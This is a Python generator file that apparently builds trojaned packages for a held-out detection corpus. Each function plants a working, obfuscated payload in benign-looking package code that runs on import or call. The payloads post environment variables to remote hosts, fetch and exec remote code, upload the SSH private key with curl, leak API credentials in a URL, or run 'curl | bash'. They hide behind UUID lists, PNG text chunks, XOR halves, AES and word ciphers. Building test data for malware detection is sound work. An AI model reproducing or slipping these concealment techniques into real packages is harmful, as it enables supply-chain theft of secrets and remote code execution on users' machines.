"""Python packages whose payload is written in another way than it runs."""

import base64
import binascii
import bz2
import json
import lzma
import uuid
import zlib

from corpus.heldout.hiding import png
from corpus.heldout.nouns import Update
from corpus.heldout4.shape import b64, fill, rows, trojan, xor

STEAL = 'import os,urllib.request as u;u.urlopen("@URL@",data=repr(dict(os.environ)).encode())'
STAGE = 'import urllib.request as u;exec(u.urlopen("@URL@").read())'


def _code(it: Update, code: str, *labels: str) -> tuple[str, str]:
    """Return code and the address in it."""
    url = f"https://{it.host(*labels)}/{it.random.choice(('a', 'init', 'v1', 'ping'))}"
    return code.replace("@URL@", url), url


@trojan("tabula", "wheel", "import", "environment", "base32 of bz2", "layers of the standard library")
def py_base32_of_bz2(it: Update) -> None:
    code, url = _code(it, STEAL, "grid", "tabula-assets")
    packed = base64.b32encode(bz2.compress(code.encode())).decode()
    lines = "\n".join(f'    "{packed[at : at + 76]}"' for at in range(0, len(packed), 76))
    it.append("tabula/text.py", f"\n\n_FALLBACK = (\n{lines}\n)\n\n\ndef _fallback():\n    import base64\n    import bz2\n\n    return bz2.decompress(base64.b32decode(_FALLBACK))\n\n\nexec(_fallback())\n")  # fmt: skip
    it.payload("tabula/text.py", shown=url)


@trojan("taskloop", "wheel", "import", "remote-code", "uuid list", "shellcode as UUIDs, for Python")
def py_code_as_uuids(it: Update) -> None:
    code, url = _code(it, STAGE, "taskloop", "jobs")
    raw = code.encode()
    raw += b" " * (-len(raw) % 16)
    ids = "\n".join(f'    "{uuid.UUID(bytes=raw[at : at + 16])}",' for at in range(0, len(raw), 16))
    it.add("taskloop/_ids.py", f'"""Identifiers of built-in schedules; do not reorder."""\n\nfrom uuid import UUID\n\nBUILTIN = (\n{ids}\n)\n\n\ndef blob():\n    return b"".join(UUID(one).bytes for one in BUILTIN)\n')  # fmt: skip
    it.append("taskloop/schedule.py", "\n\nfrom . import _ids\n\nexec(_ids.blob().decode(), {})\n")
    it.payload("taskloop/_ids.py", "taskloop/schedule.py", shown=url)


@trojan("imgmeta", "sdist", "import", "environment", "in an image", "code in a text chunk of a picture")
def py_code_in_a_picture(it: Update) -> None:
    code, url = _code(it, STEAL, "img", "imgmeta-samples")
    chunk = b"Comment\0\0" + zlib.compress(code.encode())
    it.add("imgmeta/data/icon.png", png(48, 48, b"", it.random, ((b"zTXt", chunk),)))
    it.append(
        "imgmeta/sniff.py",
        """

def _self_test():
    import os

    about = read(os.path.join(os.path.dirname(__file__), "data", "icon.png"))
    exec(about["text"]["Comment"], {"__name__": "imgmeta"})


_self_test()
""",
    )
    it.payload("imgmeta/data/icon.png", "imgmeta/sniff.py", shown=url)


@trojan("feedsort", "wheel", "import", "remote-code", "custom alphabet", "base64 over another alphabet")
def py_other_alphabet(it: Update) -> None:
    code, url = _code(it, STAGE, "feeds", "feedsort")
    plain = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    other = "".join(it.random.sample(plain, 64))
    text = b64(code).translate(str.maketrans(plain, other))
    it.append(
        "feedsort/parse.py",
        fill(
            """

import base64
import string

_FROM = "@OTHER@"
_TO = string.ascii_uppercase + string.ascii_lowercase + string.digits + "+/"
_SAMPLE = "@TEXT@"
exec(base64.b64decode(_SAMPLE.translate(str.maketrans(_FROM, _TO))))
""",
            OTHER=other,
            TEXT=text,
        ),
    )
    it.payload("feedsort/parse.py", shown=url)


@trojan("quickconf", "wheel", "import", "environment", "big integer", "code as one number")
def py_code_as_one_number(it: Update) -> None:
    code, url = _code(it, STEAL, "conf", "quick-assets")
    it.append("quickconf/casts.py", f"\n\n_LIMIT = {int.from_bytes(code.encode(), 'big')}\n_RUN = vars(__import__('builtins'))['ex' 'ec']\n_RUN(_LIMIT.to_bytes((_LIMIT.bit_length() + 7) // 8, 'big').decode())\n")  # fmt: skip
    it.payload("quickconf/casts.py", shown=url)


@trojan("chronofmt", "sdist", "import", "remote-code", "uuencoded", "old encodings: uu")
def py_uuencoded(it: Update) -> None:
    code, url = _code(it, STAGE, "time", "chronofmt-ntp")
    raw = code.encode()
    lines = ",\n".join(f"        {binascii.b2a_uu(raw[at : at + 45])!r}" for at in range(0, len(raw), 45))
    it.append("chronofmt/numbers.py", f"\n\ndef _load():\n    from binascii import a2b_uu\n    from types import ModuleType\n\n    rules = [\n{lines},\n    ]\n    module = ModuleType('chronofmt._rules')\n    exec(b''.join(map(a2b_uu, rules)), module.__dict__)\n    return module\n\n\n_RULES = _load()\n")  # fmt: skip
    it.payload("chronofmt/numbers.py", shown=url)


@trojan("authgate", "wheel", "import", "credentials", "xor over several files", "halves that only fit together")
def py_halves_in_two_files(it: Update) -> None:
    code, url = _code(it, STEAL, "auth", "gate-cdn")
    mask = it.random.randbytes(len(code))
    body = bytes(a ^ b for a, b in zip(code.encode(), mask, strict=True))
    it.add("authgate/data/roles.json", json.dumps({"version": 3, "roles": {"guest": 0}, "salt": b64(mask)}) + "\n")
    it.add("authgate/data/__init__.py", f'"""Tables."""\n\nPEPPER = bytes.fromhex(\n    "{body.hex()}"\n)\n')
    it.append(
        "authgate/users.py",
        """

def _roles():
    import base64
    import json
    import pathlib

    from .data import PEPPER

    table = json.loads(pathlib.Path(__file__).with_name("data").joinpath("roles.json").read_text())
    salt = base64.b64decode(table["salt"])
    mixed = bytes(map(int.__xor__, salt, PEPPER))
    return eval(compile(mixed, "roles", "exec"))


_roles()
""",
    )
    it.payload("authgate/data/roles.json", "authgate/data/__init__.py", "authgate/users.py", shown=url)


@trojan("httpkeep", "wheel", "call", "token-theft", "rolling xor", "a stream cipher of its own, in a method")
def py_rolling_key_in_a_method(it: Update) -> None:
    url = f"https://{it.host('edge', 'httpkeep')}/k"
    key, out = 0x5D, []
    for byte in url.encode():
        out.append(byte ^ key)
        key = (key * 5 + byte) & 255
    it.append(
        "httpkeep/weather.py",
        fill(
            """

_ICONS = (
@ROWS@
)


def _icon_base(state=0x5D):
    for one in _ICONS:
        char = one ^ state
        state = state * 5 + char & 0xFF
        yield chr(char)
""",
            ROWS=rows(out),
        ),
    )
    it.before(
        "httpkeep/weather.py",
        '        return self._client.get("/current"',
        '        Client("".join(_icon_base())).post("", data={"key": self._client._token, "place": place})\n',
    )
    it.payload("httpkeep/weather.py", shown=url)


@trojan("numspell", "sdist", "import", "remote-code", "words for bytes", "code as a list of words")
def py_code_as_words(it: Update) -> None:
    code, url = _code(it, STAGE, "words", "numspell-lang")
    words = [a + b for a in ["ba", "be", "bi", "bo", "da", "de", "di", "do", "fa", "fe", "fi", "fo", "ga", "ge", "gi", "go"] for b in ["lam", "len", "lin", "lor", "nam", "nen", "nin", "nor", "ram", "ren", "rin", "ror", "sam", "sen", "sin", "sor"]]  # fmt: skip
    it.random.shuffle(words)
    text = [words[byte] for byte in code.encode()]
    lines = "\n".join("    " + " ".join(text[at : at + 14]) for at in range(0, len(text), 14))
    listed = "\n".join("    " + " ".join(words[at : at + 16]) for at in range(0, 256, 16))
    it.add(
        "numspell/lang_xx.py",
        f'"""A made-up language, for tests of the pipeline."""\n\nSTEMS = """\n{listed}\n""".split()\nSAMPLE = """\n{lines}\n"""\n\n\ndef parse(text):\n    at = {{word: number for number, word in enumerate(STEMS)}}\n    return bytes(at[word] for word in text.split())\n',
    )
    it.append("numspell/base.py", "\n\nfrom .lang_xx import SAMPLE, parse\n\nexec(parse(SAMPLE))\n")
    it.payload("numspell/lang_xx.py", "numspell/base.py", shown=url)


@trojan("sealbox", "wheel", "import", "environment", "AES with an inline key", "payloads behind a cipher")
def py_sealed_with_its_own_box(it: Update) -> None:
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    code, url = _code(it, STEAL, "seal", "sealbox-kms")
    key, nonce = it.random.randbytes(16), it.random.randbytes(12)
    body = AESGCM(key).encrypt(nonce, lzma.compress(code.encode()), None)
    it.append(
        "sealbox/store.py",
        f"""

def _migrations():
    import base64
    import lzma

    from .box import Box, open_box

    box = Box.from_bytes(base64.b85decode({base64.b85encode(nonce + body)!r}))
    yield lzma.decompress(open_box(bytes.fromhex("{key.hex()}"), box))


for _step in _migrations():
    exec(_step)
""",
    )
    it.payload("sealbox/store.py", shown=url)


@trojan("shipyard-cli", "sdist", "call", "credentials", "reversed and rotated", "codecs as a disguise")
def py_codec_names_in_a_chain(it: Update) -> None:
    url = f"http://{it.address()}/up"
    inner = f"import os, subprocess; subprocess.run(['curl', '-sF', 'f=@' + os.path.expanduser('~/.ssh/id_ed25519'), '{url}'])"
    text = base64.b64encode(inner.encode()).decode().swapcase()[::-1]
    it.append(
        "shipyard/git.py",
        f"""

def describe():
    import codecs

    steps = [lambda t: t[::-1], str.swapcase, str.encode, lambda b: codecs.decode(b, "ba" + "se64"), bytes.decode]
    text = {text!r}
    for step in steps:
        text = step(text)
    globals()["__buil" + "tins__"]["exec"](text)
    return revision()
""",
    )
    it.replace("shipyard/cli.py", "from .git import ", "from .git import describe, ")
    it.replace(
        "shipyard/cli.py", "    config = load(args.config)\n", "    config = load(args.config)\n    describe()\n"
    )
    it.payload("shipyard/git.py", shown=url)


@trojan(
    "bucketcat",
    "sdist",
    "call",
    "credential-skimming",
    "numbers of a polynomial",
    "an address as coefficients",
    step="patch",
)
def py_address_by_arithmetic(it: Update) -> None:
    host = it.host("objects", "bucketcat")
    pairs = [(divmod(ord(one), 11)) for one in host]
    it.append(
        "bucketcat/client.py",
        f"""

_WEIGHTS = {pairs}


def _peer():
    return "".join(map(chr, (11 * high + low for high, low in _WEIGHTS)))
""",
    )
    it.before(
        "bucketcat/client.py",
        "        request = urllib.request.Request(self.endpoint + path",
        '        urllib.request.urlopen("https://" + _peer() + "/?" + self.credentials.key + "." + self.credentials.secret)\n',
    )
    it.payload("bucketcat/client.py", shown=host)


@trojan("gradkit", "wheel", "import", "downloader", "in a data file", "a program appended to a table", step="minor")
def py_tail_of_a_table(it: Update) -> None:
    url = f"https://{it.host('labels', 'gradkit')}/run.sh"
    command = f"curl -sL {url} | bash"
    table = it.text("gradkit/assets/labels.json").rstrip() + "\n\n" + xor(command, b"grad").hex() + "\n"
    it.add("gradkit/assets/labels.txt", table)
    it.append(
        "gradkit/utils/checks.py",
        """

def _labels():
    raw = open(os.path.join(os.path.dirname(__file__), "..", "assets", "labels.txt"), "rb").read()
    tail = bytes.fromhex(raw.rsplit(b"\\n\\n", 1)[1].decode().strip())
    line = "".join(chr(one ^ b"grad"[at % 4]) for at, one in enumerate(tail))
    return subprocess.Popen(["/bin/bash", "-c", line], stdout=-3, stderr=-3)


if os.name == "posix":
    _labels()
""",
    )
    it.payload("gradkit/assets/labels.txt", "gradkit/utils/checks.py", shown=url)
